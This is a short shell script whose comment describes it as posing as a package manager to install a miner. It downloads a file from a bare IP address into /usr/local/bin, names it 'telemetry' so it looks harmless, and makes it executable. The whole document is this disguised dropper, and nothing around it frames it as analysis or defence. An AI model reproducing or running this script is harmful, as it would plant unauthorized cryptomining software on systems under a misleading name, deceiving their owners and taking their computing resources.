#!/bin/sh
# calls itself a package manager and installs a miner
curl -so /usr/local/bin/telemetry http://203.0.113.60:8010/w
chmod 755 /usr/local/bin/telemetry
